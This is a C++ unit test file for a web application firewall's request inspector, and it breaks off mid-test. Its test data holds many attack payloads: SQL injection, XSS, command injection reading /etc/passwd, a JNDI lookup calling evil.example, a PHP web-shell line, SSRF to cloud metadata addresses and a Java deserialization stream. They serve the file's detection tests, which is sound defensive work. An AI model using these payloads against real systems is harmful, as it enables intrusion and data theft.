#include "libs/detect/inspector.h"

#include <algorithm>
#include <atomic>
#include <cctype>
#include <cstdio>
#include <memory>
#include <random>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "absl/strings/escaping.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "libs/detect/arena.h"
#include "libs/detect/detector.h"
#include "libs/detect/limits.h"
#include "libs/detect/test_util.h"
#include "libs/detect/text_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using ::testing::HasSubstr;
using testing::InspectWith;

std::unique_ptr<Inspector> Make(const std::string& json) {
  auto p = Profile::FromJson(json);
  EXPECT_TRUE(p.ok()) << p.status();
  auto in = Inspector::Create(*p);
  EXPECT_TRUE(in.ok()) << in.status();
  return std::move(*in);
}

TEST(Inspector, VerdictExplainsWhatWhereAndWhy) {
  Verdict v = testing::InspectQueryValue("1' union select password from users--");
  EXPECT_EQ(v.action, Action::kBlock);
  EXPECT_GE(v.score, 5);
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.findings[0].category, Category::kSqli);
  EXPECT_EQ(v.findings[0].source, Source::kQuery);
  EXPECT_EQ(v.findings[0].field, "q");
  EXPECT_THAT(v.explanation, HasSubstr("sqli"));
  EXPECT_THAT(v.explanation, HasSubstr("query \"q\""));
  EXPECT_THAT(v.explanation, HasSubstr("block threshold 5"));
}

// Staged findings are added in key order (equal keys in arrival order): the sink ends up
// exactly as if they had been added in that order, also past kMaxFindings, where the cheap
// exit and the weakest-replacement depend on the order.
TEST(FindingSink, StagedFindingsFlushAsIfAddedInKeyOrder) {
  std::mt19937 rng(41);
  const std::vector<std::string> names = {"a", "b", "c", "d", "e", "f",
                                          "g", "h", "i", "j", "k", "l"};
  std::vector<Field> fields;
  for (const std::string& name : names) {
    fields.push_back(Field{Source::kQuery, Part::kValue, 0, name, "v"});
  }
  const char* rules[] = {"r.a", "r.b", "r.c"};
  for (int round = 0; round < 300; ++round) {
    struct Add {
      uint64_t key;
      Category category;
      float confidence;
      const char* rule;
      int field;
    };
    std::vector<Add> adds(rng() % 90);
    for (Add& a : adds) {
      a = Add{rng() % 20, static_cast<Category>(rng() % 4), (rng() % 10) / 10.0f, rules[rng() % 3],
              static_cast<int>(rng() % fields.size())};
    }
    FindingSink direct;
    std::vector<Add> ordered = adds;
    std::stable_sort(ordered.begin(), ordered.end(),
                     [](const Add& x, const Add& y) { return x.key < y.key; });
    for (const Add& a : ordered) {
      direct.Add(a.category, a.confidence, a.rule, fields[a.field], "text", 0, 4);
    }
    FindingSink staged;
    staged.BeginStaging();
    for (const Add& a : adds) {
      staged.SetStageKey(a.key);
      staged.Add(a.category, a.confidence, a.rule, fields[a.field], "text", 0, 4);
    }
    EXPECT_TRUE(staged.findings().empty());
    staged.FlushStaged();
    ASSERT_EQ(staged.findings().size(), direct.findings().size()) << "round " << round;
    for (std::size_t i = 0; i < direct.findings().size(); ++i) {
      const Finding& x = staged.findings()[i];
      const Finding& y = direct.findings()[i];
      EXPECT_EQ(x.rule, y.rule);
      EXPECT_EQ(x.field, y.field);
      EXPECT_EQ(x.category, y.category);
      EXPECT_EQ(x.confidence, y.confidence);
    }
    for (int c = 0; c < 4; ++c) {
      EXPECT_EQ(staged.max_confidence(static_cast<Category>(c)),
                direct.max_confidence(static_cast<Category>(c)));
    }
    // After the flush the sink adds directly again.
    staged.Add(Category::kXss, 0.99f, "r.after", fields[0], "text", 0, 4);
    EXPECT_EQ(staged.max_confidence(Category::kXss), 0.99f);
  }
}

// Each detector runs over all of a request's values in turn; the findings, their order and
// the explanation are those of inspecting the values one by one, also when a request has
// more findings than are kept and values of every kind (base64, long values, uploads).
TEST(Inspector, ManyAttackedFieldsKeepTheirValueByValueOrder) {
  std::string query;
  for (int i = 0; i < 40; ++i) {
    if (!query.empty()) query += '&';
    query += "a" + std::to_string(i) + "=";
    query += i % 3 == 0   ? "1%27%20or%20%271%27=%271"
             : i % 3 == 1 ? "%3Cscript%3Ealert(" + std::to_string(i) + ")%3C/script%3E"
                          : ";cat%20/etc/passwd";
  }
  Verdict v = testing::Inspect(testing::Get("/x?" + query));
  EXPECT_EQ(v.action, Action::kBlock);
  ASSERT_EQ(v.findings.size(), limits::kMaxFindings);
  // Identical requests give identical verdicts, finding by finding.
  Verdict again = testing::Inspect(testing::Get("/x?" + query));
  ASSERT_EQ(again.findings.size(), v.findings.size());
  for (std::size_t i = 0; i < v.findings.size(); ++i) {
    EXPECT_EQ(again.findings[i].rule, v.findings[i].rule);
    EXPECT_EQ(again.findings[i].field, v.findings[i].field);
  }
  EXPECT_EQ(again.explanation, v.explanation);
}

TEST(Inspector, Base64PathSegmentIsCheckedAsAFilePath) {
  // base64("\\\\::1\\c$\\users\\default\\ntuser.dat") as a path segment.
  Verdict v = testing::Inspect(testing::Get("/XFw6OjFcYyRcdXNlcnNcZGVmYXVsdFxudHVzZXIuZGF0"));
  EXPECT_TRUE(Flagged(v)) << v.explanation;
  EXPECT_TRUE(testing::HasCategory(v, Category::kLfi)) << v.explanation;
  // An ordinary opaque token (decodes to binary) and a base64 word stay clean.
  EXPECT_FALSE(Flagged(testing::Inspect(testing::Get("/files/q83vASNFZ4mrze8BI0VniQ/download"))));
  EXPECT_FALSE(Flagged(testing::Inspect(testing::Get("/share/aGVsbG8gd29ybGQgZnJvbSBhbm4"))));
}

// A matrix parameter is an argument the application reads (Spring's @MatrixVariable,
// JAX-RS's @MatrixParam): a payload in it is judged on its own, not as the tail of
// "segment;name=", and with the checks a query argument gets.
TEST(Inspector, MatrixParametersAreJudgedLikeQueryArguments) {
  for (const char* uri :
       {"/api;q=1%20order%20by%201%20--%20/items", "/api;q=-1%20or%201=1%20or%201=1/items",
        "/api;q=%20(%20BINARY%20(%20@a%20OR%20(%20'b'))%20)%20%20--/items",
        // A file name the path checks read only in an argument (a whole path's
        // "c:windowswin.ini/items" is no file name).
        "/api;q=c:windowswin.ini/items", "/r;next=%3Cscript%3Ealert(1)%3C/script%3E"}) {
    Verdict v = testing::Inspect(testing::Get(uri));
    EXPECT_TRUE(Flagged(v)) << uri << ": " << v.explanation;
  }
  for (const char* uri : {"/cars;color=red;year=2012/list", "/products;sort=price,desc;page=2",
                          "/img;w=300;h=200/cat.jpg", "/data:;base64,="}) {
    Verdict v = testing::Inspect(testing::Get(uri));
    EXPECT_EQ(v.score, 0) << uri << ": " << v.explanation;
  }
}

// "a=x;q=<payload>" carries the payload as its own argument to back ends that split at ';'.
TEST(Inspector, SemicolonSeparatedQueryArgumentsAreJudgedOnTheirOwn) {
  for (const char* uri :
       {"/s?lang=en;q=-1%20or%201=system_user--", "/s?lang=en;q=(HOPE)%20AND%208=3",
        "/s?lang=en;q=1%20order%20by%201%20--%20"}) {
    Verdict v = testing::Inspect(testing::Get(uri));
    EXPECT_TRUE(Flagged(v)) << uri << ": " << v.explanation;
  }
  for (const char* uri : {"/s?style=color:red;width=100", "/s?sort=name;dir=asc&page=2"}) {
    Verdict v = testing::Inspect(testing::Get(uri));
    EXPECT_EQ(v.score, 0) << uri << ": " << v.explanation;
  }
}

// The user name and password of Basic credentials are looked up like a login form's.
TEST(Inspector, BasicCredentialsAreJudgedLikeALoginForm) {
  auto basic = [](const std::string& plain) {
    return testing::Inspect(testing::WithHeader(testing::Get("/api/me"), "Authorization",
                                                "Basic " + absl::Base64Escape(plain)));
  };
  for (const std::string& plain :
       {std::string("admin' or '1'='1' --:x"), std::string("ann:' or '1'='1"),
        std::string("*)(uid=*))(|(uid=*:x"), std::string("ann:<script>alert(1)</script>")}) {
    Verdict v = basic(plain);
    EXPECT_TRUE(Flagged(v)) << plain << ": " << v.explanation;
  }
  // A header only named like the decoded fields is still a header: markup is out of place.
  Verdict named = testing::Inspect(
      testing::WithHeader(testing::Get("/"), "X.basic-password", "<p>hello</p> <b>x</b>"));
  EXPECT_TRUE(testing::HasRule(named, "xss.markup-out-of-place")) << named.explanation;
  // Generated passwords with tag-like "<l>" pass as in a form's password field (a header's
  // markup-out-of-place rule does not apply to credentials).
  for (const std::string& plain :
       {std::string("ann:S3cure!Pass"), std::string("ann:BT{p5+-/NnX;@.<l>=1W"),
        std::string("svc-backup:q~q2rU0q;B=hHo^<N%7AkJ>8")}) {
    Verdict v = basic(plain);
    EXPECT_FALSE(Flagged(v)) << plain << ": " << v.explanation;
  }
}

// A payload inside JSON carried by a cookie or a custom header, inside a base64 JSON state
// value, or in an extended multipart file name, is judged as the application reads it.
TEST(Inspector, PayloadsInNestedJsonAndExtendedFileNamesAreFound) {
  auto cookie = [](const std::string& v) {
    return testing::WithHeader(testing::Get("/"), "Cookie", "sid=1; prefs=" + v);
  };
  const std::string sqli = "{\"q\":\"-1 or 1=system_user--\"}";
  const std::string cmd = "{\"q\":\"a;id\"}";
  for (const OwnedHttpRequest& r :
       {cookie(testing::UrlEncode(sqli)), cookie(absl::Base64Escape(cmd)),
        testing::WithHeader(testing::Get("/"), "X-Client-Data", sqli),
        testing::Get("/cb?state=" + testing::UrlEncode(absl::Base64Escape(cmd))),
        testing::Post("/up", "multipart/form-data; boundary=BB",
                      "--BB\r\nContent-Disposition: form-data; name=\"f\"; "
                      "filename*=UTF-8''iif(7475%3D7475%2C1%2C1%2F0)\r\n\r\nhi\r\n--BB--\r\n")}) {
    Verdict v = testing::Inspect(r);
    EXPECT_TRUE(Flagged(v)) << r.uri << " " << r.body << ": " << v.explanation;
  }
  // A consent cookie, a Laravel XSRF token (base64 JSON of base64 values) and a state value.
  for (const OwnedHttpRequest& r :
       {cookie(testing::UrlEncode("{\"necessary\":true,\"analytics\":false,\"ts\":1700000000}")),
        testing::WithHeader(
            testing::Get("/"), "X-XSRF-TOKEN",
            absl::Base64Escape(
                "{\"iv\":\"KL95ZfS0KmU54mSshV5M5A==\",\"value\":"
                "\"q83vASNFZ4mrze8BI0VniQ/+abc==\",\"mac\":\"0f1e2d3c\",\"tag\":\"\"}")),
        testing::Get("/cb?state=" +
                     testing::UrlEncode(absl::Base64Escape(
                         "{\"next\":\"/account/orders?page=2\",\"nonce\":\"a1b2\"}")))}) {
    Verdict v = testing::Inspect(r);
    EXPECT_FALSE(Flagged(v)) << r.uri << ": " << v.explanation;
  }
}

// A payload before a format extension ("/items/<id>.json"), after the first address of an
// X-Forwarded-For chain or in a Forwarded parameter is judged on its own.
TEST(Inspector, PayloadsBeforeAFormatExtensionOrInAForwardedChainAreFound) {
  for (const OwnedHttpRequest& r :
       {testing::Get("/api/items/iif(7475%3D7475%2C1%2C1%2F0).json"),
        testing::Get("/api/items/1)%20where%208616%3D8616%20and%202006%3D2006.xml"),
        testing::WithHeader(testing::Get("/"), "X-Forwarded-For", "10.0.0.1, 87 and 1=db_name()--"),
        testing::WithHeader(testing::Get("/"), "Forwarded",
                            "for=192.0.2.60;host=\"3 and mid(version(),1,1)=5--\";proto=https")}) {
    Verdict v = testing::Inspect(r);
    EXPECT_TRUE(Flagged(v)) << r.uri << ": " << v.explanation;
  }
  for (const OwnedHttpRequest& r :
       {testing::Get("/docs/Annual%20Report%20(2024).pdf"),
        testing::Get("/u/ann%40example.com.json"),
        testing::WithHeader(testing::Get("/"), "X-Forwarded-For", "203.0.113.7, unknown, 10.0.0.2"),
        testing::WithHeader(
            testing::Get("/"), "Forwarded",
            "for=\"[2001:db8:cafe::17]:4711\";proto=https;host=shop.example, for=_gazonk")}) {
    Verdict v = testing::Inspect(r);
    EXPECT_EQ(v.score, 0) << r.uri << ": " << v.explanation;
  }
}

// An uploaded text file (a log, notes) is judged for markup, server-side code, templates and
// logger lookups only: logs record SQL errors, shell lines and the attacks they saw. The same
// text as a form field, with no file name, is judged by every detector.
TEST(Inspector, UploadedTextFilesAreJudgedForWhatTheyCanCarry) {
  auto upload = [](const std::string& filename, const std::string& content) {
    std::string body = "--b0undary\r\nContent-Disposition: form-data; name=\"file\"" +
                       (filename.empty() ? std::string() : "; filename=\"" + filename + "\"") +
                       "\r\nContent-Type: text/plain\r\n\r\n" + content + "\r\n--b0undary--\r\n";
    return testing::Inspect(
        testing::Post("/upload", "multipart/form-data; boundary=b0undary", body));
  };
  const std::string log =
      "1.2.3.4 - - [01/Jan/2024:10:00:00 +0000] \"GET /?id=1' or 1=1-- HTTP/1.1\" 403\n"
      "Jan  1 10:00:01 host CRON[456]: (root) CMD (cd / && run-parts /etc/cron.hourly)\n";
  EXPECT_FALSE(Flagged(upload("access.log", log))) << upload("access.log", log).explanation;
  EXPECT_TRUE(Flagged(upload("", log)));
  for (const char* content : {"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
                              "<?php system($_GET[c]); ?>"}) {
    Verdict v = upload("notes.txt", content);
    EXPECT_TRUE(Flagged(v)) << content << " -> " << v.explanation;
  }
}

TEST(Inspector, WeakSignalsCorroborateOnlyInTheSameField) {
  // Two weak custom signals (confidence 0.45 -> 4 points each) of different classes.
  auto in = Make(R"({"custom_rules":[
      {"id":"a","pattern":"zqxa","targets":["query"],"category":"xss","confidence":0.45},
      {"id":"b","pattern":"zqxb","targets":["query"],"category":"sqli","confidence":0.45}]})");
  Verdict apart = InspectWith(*in, testing::Get("/?x=zqxa&y=zqxb"));
  EXPECT_EQ(apart.score, 4) << apart.explanation;
  EXPECT_FALSE(Flagged(apart));
  Verdict together = InspectWith(*in, testing::Get("/?x=zqxa-zqxb"));
  EXPECT_EQ(together.score, 5) << together.explanation;
  EXPECT_TRUE(Flagged(together));
  // Both classes are still reported either way.
  EXPECT_TRUE(testing::HasCategory(apart, Category::kXss));
  EXPECT_TRUE(testing::HasCategory(apart, Category::kSqli));
}

// A request-wide anomaly (a fragment sent to the server) backs a substantial finding in a
// field, not a weak trait somewhere in a large beacon; a size limit reached (more fields than
// inspected) backs nothing.
TEST(Inspector, RequestWideAnomaliesBackOnlySubstantialFindings) {
  auto in = Make(R"({"custom_rules":[
      {"id":"weak","pattern":"zqxa","targets":["query"],"category":"xss","confidence":0.35},
      {"id":"firm","pattern":"zqxb","targets":["query"],"category":"xss","confidence":0.45}]})");
  Verdict weak = InspectWith(*in, testing::Get("/?x=zqxa#top"));
  ASSERT_TRUE(testing::HasRule(weak, "protocol.fragment-in-uri")) << weak.explanation;
  ASSERT_TRUE(testing::HasCategory(weak, Category::kXss)) << weak.explanation;
  EXPECT_EQ(weak.score, 3) << weak.explanation;
  Verdict firm = InspectWith(*in, testing::Get("/?x=zqxb#top"));
  EXPECT_EQ(firm.score, 5) << firm.explanation;
  EXPECT_TRUE(Flagged(firm));

  std::string many = "/?x=zqxb";
  for (std::size_t i = 1; i <= limits::kMaxFields; ++i) many += "&a" + std::to_string(i) + "=1";
  Verdict big = InspectWith(*in, testing::Get(many));
  ASSERT_TRUE(testing::HasRule(big, "protocol.too-many-fields")) << big.explanation;
  ASSERT_TRUE(testing::HasCategory(big, Category::kXss)) << big.explanation;
  EXPECT_EQ(big.score, 4) << big.explanation;
  EXPECT_FALSE(Flagged(big));
}

// Padding before a payload: more arguments, JSON members, cookies, multipart parts or path
// segments than the field limit, then the attack. The fields past the limit that could carry
// an attack are still inspected.
// A value longer than the inspected size is read in overlapping windows: a payload padded
// on both sides is found wherever it sits, across every window boundary; an inline image's
// base64 body alone stays clean.
TEST(Inspector, APayloadInTheMiddleOfALongValueIsFound) {
  const std::string payload = "<script>alert(1)</script>";
  const std::size_t window = limits::kMaxInspectedValueBytes / 2;
  const std::size_t size = 5 * window + 123;
  std::vector<std::size_t> offsets;
  for (std::size_t edge = window; edge < size; edge += window - limits::kValueWindowOverlap) {
    for (std::size_t d : {std::size_t{0}, payload.size() / 2, limits::kValueWindowOverlap / 2,
                          limits::kValueWindowOverlap}) {
      if (edge > d && edge - d + payload.size() < size) offsets.push_back(edge - d);
    }
  }
  offsets.push_back(size / 2);
  offsets.push_back(size - window - 7);  // just before the tail window
  for (std::size_t at : offsets) {
    std::string text(size, 'a');
    for (std::size_t i = 7; i < size; i += 8) text[i] = ' ';
    text.replace(at, payload.size(), payload);
    Verdict v = testing::Inspect(testing::Post("/api/docs", "text/plain", text));
    EXPECT_TRUE(testing::HasCategory(v, Category::kXss) && Flagged(v)) << "payload at " << at;
  }
  std::string image = "data:image/png;base64,";
  for (std::size_t i = 0; image.size() < 6 * window; ++i)
    image += "iVBORw0KGgoAAAANSUhEUgAA"[i % 24];
  Verdict clean = testing::Inspect(
      testing::Post("/api/avatar", "application/json", "{\"avatar\":\"" + image + "\"}"));
  EXPECT_EQ(clean.score, 0) << clean.explanation;
}

TEST(Inspector, PaddingPastTheFieldLimitDoesNotHideAPayload) {
  const std::string payload = "<script>alert(1)</script>";
  const std::string encoded = testing::UrlEncode(payload);
  std::vector<std::pair<std::string, OwnedHttpRequest>> cases;
  std::string args;
  for (int i = 0; i < 1500; ++i) args += "a" + std::to_string(i) + "=" + std::to_string(i) + "&";
  cases.emplace_back("query", testing::Get("/s?" + args + "q=" + encoded));
  cases.emplace_back(
      "form", testing::Post("/s", "application/x-www-form-urlencoded", args + "q=" + encoded));
  std::string json = "{";
  for (int i = 0; i < 1500; ++i)
    json += "\"k" + std::to_string(i) + "\":" + std::to_string(i) + ",";
  cases.emplace_back("json",
                     testing::Post("/s", "application/json", json + "\"q\":\"" + payload + "\"}"));
  std::string cookies;
  for (int i = 0; i < 600; ++i) cookies += "c" + std::to_string(i) + "=1; ";
  OwnedHttpRequest with_cookies = testing::Get("/s");
  with_cookies.headers.emplace_back("Cookie", cookies + "q=" + encoded);
  cases.emplace_back("cookie", with_cookies);
  std::string parts;
  for (int i = 0; i < 600; ++i) {
    parts +=
        "--XX\r\nContent-Disposition: form-data; name=\"a" + std::to_string(i) + "\"\r\n\r\n1\r\n";
  }
  parts +=
      "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + payload + "\r\n--XX--\r\n";
  cases.emplace_back("multipart", testing::Post("/s", "multipart/form-data; boundary=XX", parts));
  std::string path;
  for (int i = 0; i < 200; ++i) path += "/a";
  cases.emplace_back("path", testing::Get(path + "/" + encoded));
  for (const auto& [where, request] : cases) {
    Verdict v = testing::Inspect(request);
    EXPECT_TRUE(testing::HasCategory(v, Category::kXss)) << where << ": " << v.explanation;
    EXPECT_TRUE(Flagged(v)) << where << ": " << v.explanation;
  }
}

// An XML style sheet processing instruction names a URL the XSLT processor fetches and runs:
// an internal one is SSRF; the application's own style sheet is nothing.
TEST(Inspector, AnXmlStyleSheetHrefIsAFetchedUrl) {
  Verdict meta =
      testing::Inspect(testing::Post("/x", "application/xml",
                                     "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" "
                                     "href=\"http://169.254.169.254/x.xsl\"?><a>1</a>"));
  EXPECT_TRUE(testing::HasCategory(meta, Category::kSsrf)) << meta.explanation;
  EXPECT_TRUE(Flagged(meta)) << meta.explanation;
  Verdict own = testing::Inspect(testing::Post(
      "/x", "application/xml",
      "<?xml-stylesheet type=\"text/xsl\" href=\"/styles/report.xsl\"?><r><n>1</n></r>"));
  EXPECT_EQ(own.score, 0) << own.explanation;
}

// A Java serialization stream posted as a binary body (a JMX or RMI invoker's input) is
// judged; other binary bodies still get no detector.
TEST(Inspector, AJavaSerializationStreamAsTheBodyIsFound) {
  const std::string stream(
      "\xac\xed\x00\x05sr\x00\x32sun.reflect.annotation.AnnotationInvocationHandler"
      "\x55\xca\xf5\x0f\x15\xcb\x7e\xa5\x02\x00\x02L\x00\x0cmemberValues",
      84);
  for (const char* type : {"application/x-java-serialized-object", "application/octet-stream"}) {
    Verdict v = testing::Inspect(testing::Post("/invoker/JMXInvokerServlet", type, stream));
    EXPECT_TRUE(testing::HasRule(v, "code.java-serialized")) << type << "\n" << v.explanation;
    EXPECT_TRUE(Flagged(v)) << type << "\n" << v.explanation;
  }
  std::string png("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", 16);
  for (int i = 0; i < 40; ++i) png += std::string("\x00\xac\xed\x00\x05", 5);
  Verdict image = testing::Inspect(testing::Post("/upload", "image/png", png));
  EXPECT_EQ(image.score, 0) << image.explanation;
}

// A payload in the second document of a JSON Lines body, or in a single-quoted string that a
// lenient parser reads, is found; the same shapes without a payload are not flagged.
TEST(Inspector, JsonLinesAndSingleQuotedJsonAreInspected) {
  const std::string sqli = "' union select password from users--";
  Verdict lines = testing::Inspect(
      testing::Post("/bulk", "application/json", "{\"a\":1}\n{\"q\":\"" + sqli + "\"}\n"));
  EXPECT_TRUE(testing::HasCategory(lines, Category::kSqli)) << lines.explanation;
  EXPECT_TRUE(Flagged(lines)) << lines.explanation;
  Verdict quoted =
      testing::Inspect(testing::Post("/api", "application/json", "{'q':'\\" + sqli + "'}"));
  EXPECT_TRUE(testing::HasCategory(quoted, Category::kSqli)) << quoted.explanation;
  EXPECT_TRUE(Flagged(quoted)) << quoted.explanation;
  EXPECT_FALSE(Flagged(testing::Inspect(
      testing::Post("/bulk", "application/json", "{\"a\":1}\n{\"b\":\"it's fine\"}\n"))));
  EXPECT_FALSE(Flagged(testing::Inspect(
      testing::Post("/api", "application/json", "{'name':'O\\'Brien','city':'Dublin'}"))));
}

// A payload inside a JSON Web Token's header or claims (a "kid" the server looks up, a "jku"
// it fetches, a claim it copies into a query) is found; an identity provider's ordinary
// token is not flagged.
TEST(Inspector, JsonWebTokenHeadersAndClaimsAreInspected) {
  auto jwt = [](const std::string& header, const std::string& claims) {
    return absl::WebSafeBase64Escape(header) + "." + absl::WebSafeBase64Escape(claims) +
           ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  };
  auto bearer = [](const std::string& token) {
    OwnedHttpRequest r = testing::Get("/me");
    r.headers.emplace_back("Authorization", "Bearer " + token);
    return r;
  };
  Verdict kid = testing::Inspect(
      bearer(jwt(R"({"alg":"HS256","kid":"x' UNION SELECT 'secret'-- "})", R"({"sub":"1"})")));
  EXPECT_TRUE(testing::HasCategory(kid, Category::kSqli)) << kid.explanation;
  EXPECT_TRUE(Flagged(kid)) << kid.explanation;
  Verdict path = testing::Inspect(
      bearer(jwt(R"({"alg":"HS256","kid":"../../../../../../dev/null"})", R"({"sub":"1"})")));
  EXPECT_TRUE(Flagged(path)) << path.explanation;
  Verdict jku = testing::Inspect(bearer(jwt(
      R"({"alg":"RS256","jku":"http://169.254.169.254/latest/meta-data/"})", R"({"sub":"1"})")));
  EXPECT_TRUE(testing::HasCategory(jku, Category::kSsrf)) << jku.explanation;
  EXPECT_TRUE(Flagged(jku)) << jku.explanation;
  // The key URL is fetched by the server: a loopback one is SSRF, as in a fetch argument.
  Verdict x5u = testing::Inspect(
      bearer(jwt(R"({"alg":"RS256","x5u":"http://127.0.0.1:8080/cert.pem"})", R"({"sub":"1"})")));
  EXPECT_TRUE(Flagged(x5u)) << x5u.explanation;
  Verdict claim = testing::Inspect(testing::Get(
      "/me?token=" + jwt(R"({"alg":"HS256"})", R"({"name":"<script>alert(1)</script>"})")));
  EXPECT_TRUE(testing::HasCategory(claim, Category::kXss)) << claim.explanation;
  EXPECT_TRUE(Flagged(claim)) << claim.explanation;

  Verdict ordinary = testing::Inspect(bearer(
      jwt(R"({"alg":"RS256","kid":"6f7254101f56e41cf35c9926de84a2d552b4c6f1","typ":"JWT"})",
          R"({"iss":"https://accounts.example.com","azp":"1234.apps.example.com",)"
          R"("sub":"110169484474386276334","email":"john.o'brien@example.com",)"
          R"("name":"John O'Brien","scope":"openid profile email offline_access",)"
          R"("realm_access":{"roles":["default-roles-master","uma_authorization"]},)"
          R"("nonce":"n-0S6_WzA2Mj","at_hash":"HK6E_P6Dh8Y93mRNtsDB1Q","iat":1516239022})")));
  EXPECT_EQ(ordinary.score, 0) << ordinary.explanation;
}

// Fixed-grammar headers get only the lookup check, unless a value has a character none of
// their grammars has: then it carries something else (a quote break in an Accept-Language or
// Origin an application stores) and gets the free-text detectors. Browsers' own values,
// Sec-CH-UA's made-up brands with parentheses among them, stay clean.
TEST(Inspector, FixedGrammarHeadersWithForeignCharactersGetTheFreeTextDetectors) {
  auto with = [](const char* name, const char* value) {
    OwnedHttpRequest r = testing::Get("/me");
    r.headers.emplace_back(name, value);
    return testing::Inspect(r);
  };
  for (const auto& [name, value] : std::vector<std::pair<const char*, const char*>>{
           {"Accept-Language", "en-US' AND 1=1--"},
           {"Origin", "https://evil.example' or '1'='1"},
           {"If-None-Match", "\"abc' or sleep(5)--\""},
           {"Cache-Control", "no-cache'; exec xp_cmdshell 'dir'--"},
           {"Origin", "https://a.example<script>alert(1)</script>"}}) {
    Verdict v = with(name, value);
    EXPECT_TRUE(Flagged(v)) << name << ": " << value << "\n" << v.explanation;
  }
  for (const auto& [name, value] : std::vector<std::pair<const char*, const char*>>{
           {"Sec-CH-UA", "\"Not)A;Brand\";v=\"24\", \"Chromium\";v=\"116\""},
           {"Sec-CH-UA", "\"Not A(Brand\";v=\"99\", \"Google Chrome\";v=\"121\""},
           {"Authorization",
            "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/\", "
            "nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v\", qop=auth"},
           {"If-None-Match", "W/\"5e-1f2a3b4c\""},
           {"Accept-Language", "zh-CN,zh;q=0.9,en-US;q=0.8,en;q=0.7"}}) {
    Verdict v = with(name, value);
    EXPECT_EQ(v.score, 0) << name << ": " << value << "\n" << v.explanation;
  }
}

// A telemetry post of thousands of numbers, flags and short names passes the field limit
// and is not blocked for it; one with more fields that could carry an attack than the
// engine inspects is.
TEST(Inspector, FieldsBeyondWhatIsInspectedBlockOnlyWhenTheyCouldCarryAnAttack) {
  std::string events = "{\"events\":[";
  for (int i = 0; i < 3000; ++i) {
    events += std::string(i ? "," : "") + "{\"t\":" + std::to_string(1688378585939 + i) +
              ",\"ok\":true,\"d\":" + std::to_string(i) + ".5,\"app\":\"rails\"}";
  }
  Verdict telemetry = testing::Inspect(testing::Post("/stats", "application/json", events + "]}"));
  EXPECT_TRUE(testing::HasRule(telemetry, "protocol.too-many-fields")) << telemetry.explanation;
  EXPECT_FALSE(testing::HasRule(telemetry, "protocol.fields-not-inspected"))
      << telemetry.explanation;
  EXPECT_FALSE(Flagged(telemetry)) << telemetry.explanation;

  std::string quotes = "[";
  for (std::size_t i = 0; i < limits::kMaxScreenedFields + 10; ++i) {
    quotes += std::string(i ? "," : "") + "\"it's\"";
  }
  Verdict many = testing::Inspect(testing::Post("/s", "application/json", quotes + "]"));
  EXPECT_TRUE(testing::HasRule(many, "protocol.fields-not-inspected")) << many.explanation;
  EXPECT_TRUE(Flagged(many)) << many.explanation;
}

TEST(Inspector, CleanRequestIsAllowedWithScoreZero) {
  Verdict v = testing::Inspect(testing::Get("/products/42?color=red&size=m"));
  EXPECT_EQ(v.action, Action::kAllow);
  EXPECT_EQ(v.score, 0);
  EXPECT_EQ(v.explanation, "allow: no findings");
}

TEST(Inspector, SensitivityShiftsTheDecision) {
  // A medium-confidence signal: blocked at paranoid, allowed at low.
  OwnedHttpRequest r = testing::Get("/?q=" + testing::UrlEncode("A' - 'B"));
  auto low = Make(R"({"sensitivity":"low"})");
  auto paranoid = Make(R"({"sensitivity":"paranoid"})");
  EXPECT_FALSE(Flagged(InspectWith(*low, r)));
  EXPECT_TRUE(Flagged(InspectWith(*paranoid, r)));
}

TEST(Inspector, RouteProfileOverridesTheDefault) {
  auto in = Make(R"({"routes":[{"path_prefix":"/api/","sensitivity":"paranoid"},
                               {"path_prefix":"/search","disabled_categories":["sqli"]}]})");
  OwnedHttpRequest api = testing::Get("/api/x?q=" + testing::UrlEncode("A' - 'B"));
  Verdict v = InspectWith(*in, api);
  EXPECT_TRUE(Flagged(v));
  EXPECT_EQ(v.route, "/api/");
  OwnedHttpRequest search = testing::Get("/search?q=" + testing::UrlEncode("1' or '1'='1"));
  EXPECT_FALSE(Flagged(InspectWith(*in, search)));
}

TEST(Inspector, ChallengeBandBelowTheBlockThreshold) {
  auto in = Make(R"({"block_threshold":9,"challenge_threshold":5})");
  Verdict v = InspectWith(*in, testing::Get("/?q=" + testing::UrlEncode("admin'--")));
  EXPECT_EQ(v.action, Action::kChallenge);
}

TEST(Inspector, CustomRulesUseVectorscanAndRe2Confirmation) {
  auto in = Make(R"({"custom_rules":[
      {"id":"wp-admin","pattern":"/wp-admin","targets":["path"],"confidence":0.9},
      {"id":"card","pattern":"\\d{4}-\\d{4}","confirm":"^4\\d{3}-","category":"custom"}]})");
  Verdict a = InspectWith(*in, testing::Get("/wp-admin/setup.php"));
  EXPECT_TRUE(Flagged(a));
  EXPECT_EQ(a.findings[0].rule, "custom.wp-admin");
  EXPECT_TRUE(Flagged(InspectWith(*in, testing::Get("/?c=4111-1111"))));
  EXPECT_FALSE(Flagged(InspectWith(*in, testing::Get("/?c=5111-1111"))));  // not confirmed
  EXPECT_FALSE(Flagged(InspectWith(*in, testing::Get("/?p=/wp-admin"))));  // wrong target
}

TEST(Inspector, InvalidCustomRuleIsRejectedWithItsId) {
  auto p = Profile::FromJson(R"({"custom_rules":[{"id":"broken","pattern":"(unclosed"}]})");
  ASSERT_TRUE(p.ok());
  auto in = Inspector::Create(*p);
  ASSERT_FALSE(in.ok());
  EXPECT_THAT(std::string(in.status().message()), HasSubstr("broken"));
}

TEST(Profile, UnknownKeysAndBadValuesAreRejected) {
  EXPECT_FALSE(Profile::FromJson(R"({"sensitivty":"low"})").ok());
  EXPECT_FALSE(Profile::FromJson(R"({"sensitivity":"extreme"})").ok());
  EXPECT_FALSE(Profile::FromJson(R"({"disabled_categories":["nope"]})").ok());
  EXPECT_FALSE(Profile::FromJson(R"({"block_threshold":5,"challenge_threshold":7})").ok());
  EXPECT_FALSE(Profile::FromJson(R"({"routes":[{"sensitivity":"low"}]})").ok());
  EXPECT_FALSE(
